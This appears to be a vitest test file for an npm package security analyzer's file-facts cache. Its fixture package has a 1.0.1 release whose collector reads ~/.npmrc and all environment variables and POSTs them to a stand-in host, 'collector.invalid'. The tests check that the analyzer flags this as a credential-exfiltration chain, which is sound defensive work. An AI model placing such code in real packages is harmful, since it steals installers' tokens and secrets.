import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ANALYZER_VERSION } from '../analysis/analyze.js';
import { createFileFactsCache } from '../analysis/file-facts-cache.js';
import { openFileFactsStore } from '../analysis/file-facts-store.js';
import { analyzeSide } from './analyze-side.js';
import { computeDelta } from './delta.js';

const files = (entries: Record<string, string>) =>
  new Map(Object.entries(entries).map(([path, text]) => [path, { bytes: new TextEncoder().encode(text) }]));

/** Helpers that only pass values around: unchanged between the two releases. */
const helpers = Object.fromEntries(
  Array.from({ length: 12 }, (_, i) => [
    `lib/helper-${i}.js`,
    `'use strict';\nconst { format } = require('./format');\nexports.h${i} = (x) => format(x) + ${i};\n`,
  ]),
);

/** An xmlrpc-style turn: 1.0.1 makes the collector read ~/.npmrc, which the client already posts. */
const older = files({
  'package.json': JSON.stringify({ name: 'turned', version: '1.0.0', main: 'index.js' }),
  'index.js': [
    "const https = require('https');",
    "const { collect } = require('./lib/collect');",
    "const req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });",
    'req.write(collect());',
    'req.end();',
    '',
  ].join('\n'),
  'lib/collect.js': "function collect() {\n  return 'status ok';\n}\nmodule.exports = { collect };\n",
  'lib/format.js': "exports.format = (x) => String(x).padStart(4, ' ');\n",
  'lib/env.ts': 'export const mode: string = process.env.NODE_ENV ?? "production";\n',
  'lib/banner.mjs': "export default 'aGVsbG8gd29ybGQ=';\n",
  'scripts/setup.sh': '#!/bin/sh\necho setup\n',
  ...helpers,
});
const newer = files({
  ...Object.fromEntries([...older].map(([path, { bytes }]) => [path, new TextDecoder().decode(bytes)])),
  'package.json': JSON.stringify({ name: 'turned', version: '1.0.1', main: 'index.js' }),
  'lib/collect.js': [
    "const fs = require('fs');",
    "const os = require('os');",
    "const path = require('path');",
    'function collect() {',
    "  return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') + JSON.stringify(process.env);",
    '}',
    'module.exports = { collect };',
    '',
  ].join('\n'),
  'lib/added.js': "module.exports = () => require('child_process').execSync('echo added');\n",
});
newer.delete('lib/banner.mjs');

const JS_FILES = (map: Map<string, unknown>) => [...map.keys()].filter((f) => /\.[cm]?[jt]s$/.test(f)).length;

describe('analyzeSide with a file facts cache', () => {
  it('parses only the changed files of the newer side and gives the same facts and assessment', () => {
    const cache = createFileFactsCache(ANALYZER_VERSION);
    const fromCached = analyzeSide(older, { name: 'turned', version: '1.0.0' }, {}, cache);
    expect(cache.stats).toMatchObject({ hits: 0, misses: JS_FILES(older), stored: JS_FILES(older) });

    const toCached = analyzeSide(newer, { name: 'turned', version: '1.0.1' }, {}, cache);
    // collect.js changed and added.js is new: only those two are parsed.
    expect(cache.stats.misses - JS_FILES(older)).toBe(2);
    expect(cache.stats.hits).toBe(JS_FILES(newer) - 2);

    const fromPlain = analyzeSide(older, { name: 'turned', version: '1.0.0' });
    const toPlain = analyzeSide(newer, { name: 'turned', version: '1.0.1' });
    expect(fromCached.facts).toEqual(fromPlain.facts);
    expect(toCached.facts).toEqual(toPlain.facts);
    expect(toCached.assessment).toEqual(toPlain.assessment);
    expect(computeDelta(fromCached, toCached)).toEqual(computeDelta(fromPlain, toPlain));
    // The turn is still seen: the cross-file flow runs from the changed collector to the unchanged client.
    expect(toCached.assessment.findings.map((f) => f.rule)).toContain('credential-exfil-chain');
    expect(fromCached.assessment.findings.map((f) => f.rule)).not.toContain('credential-exfil-chain');
  });

  it('persists in SQLite: a re-run reads each side whole, parsing nothing, with the same result', () => {
    const location = join(mkdtempSync(join(tmpdir(), 'bulwark-facts-')), 'file-facts.db');
    const first = openFileFactsStore(location);
    analyzeSide(older, {}, {}, first.cache);
    first.save();
    first.close();

    const second = openFileFactsStore(location);
    const from = analyzeSide(older, {}, {}, second.cache);
    // The side itself was kept: not even a file look-up.
    expect(second.cache.stats).toEqual({ hits: 0, misses: 0, stored: 0 });
    const to = analyzeSide(newer, {}, {}, second.cache);
    expect(second.cache.stats.misses).toBe(2);
    expect(second.cache.stats.hits).toBe(JS_FILES(newer) - 2);
    second.save();
    second.close();
    expect(from.facts).toEqual(analyzeSide(older).facts);
    expect(from.assessment).toEqual(analyzeSide(older).assessment);
    expect(to.facts).toEqual(analyzeSide(newer).facts);
    expect(to.assessment).toEqual(analyzeSide(newer).assessment);

    const third = openFileFactsStore(location);
    expect(analyzeSide(newer, {}, {}, third.cache).assessment).toEqual(to.assessment);
    expect(third.cache.stats).toEqual({ hits: 0, misses: 0, stored: 0 });
    third.close();
  });

  it('does not reuse a side analysed with another registry document or identity', () => {
    const cache = createFileFactsCache(ANALYZER_VERSION);
    const packument = {
      name: 'turned',
      'dist-tags': { latest: '1.0.0' },
      versions: { '1.0.0': { name: 'turned', version: '1.0.0', scripts: { postinstall: 'node x.js' } } },
    };
    analyzeSide(older, { name: 'turned', version: '1.0.0' }, {}, cache);
    const withDocument = analyzeSide(older, { name: 'turned', version: '1.0.0' }, { packument }, cache);
    // A file look-up for each file: the side was not taken whole.
    expect(cache.stats.hits).toBe(JS_FILES(older));
    expect(withDocument.assessment).toEqual(
      analyzeSide(older, { name: 'turned', version: '1.0.0' }, { packument }).assessment,
    );
    const renamed = analyzeSide(older, { name: 'turned', version: '9.9.9' }, {}, cache);
    expect(cache.stats.hits).toBe(2 * JS_FILES(older));
    expect(renamed.assessment.version).toBe('1.0.0');
  });

  it('takes a side record it cannot read for a miss', () => {
    const records = new Map<string, Uint8Array>();
    const cache = createFileFactsCache(ANALYZER_VERSION);
    const spy = {
      ...cache,
      getRecord: (key: string) => records.get(key),
      putRecord: (key: string, data: Uint8Array) =>
        records.set(key, Uint8Array.of(1, ...data.subarray(1, 9))),
    };
    const first = analyzeSide(older, {}, {}, spy);
    expect(records.size).toBe(1);
    expect(analyzeSide(older, {}, {}, spy)).toEqual(first);
  });

  it('keys by path too: the same bytes under another name are parsed for that name', () => {
    const cache = createFileFactsCache(ANALYZER_VERSION);
    analyzeSide(files({ 'a.js': 'process.env.TOKEN;\n' }), {}, {}, cache);
    const moved = analyzeSide(files({ 'b.js': 'process.env.TOKEN;\n' }), {}, {}, cache);
    expect(cache.stats.hits).toBe(0);
    expect(moved.facts.code.every((f) => f.at.file === 'b.js')).toBe(true);
  });

  it('does not keep facts a budget cut short', () => {
    const cache = createFileFactsCache(ANALYZER_VERSION);
    const many = `${Array.from({ length: 3000 }, (_, i) => `process.env.K${i};`).join('\n')}\n`;
    const side = analyzeSide(files({ 'big.js': many, 'small.js': 'module.exports = 1;\n' }), {}, {}, cache);
    expect(side.facts.files.find((f) => f.file === 'big.js')?.factsTruncated).toBe(true);
    expect(cache.stats.stored).toBe(1);
    // Files never reached for want of time are not stored either.
    const late = createFileFactsCache(ANALYZER_VERSION);
    analyzeSide(files({ 'a.js': '1;\n' }), {}, { timeBudgetMs: 0 }, late);
    expect(late.stats.stored).toBe(0);
  });
});
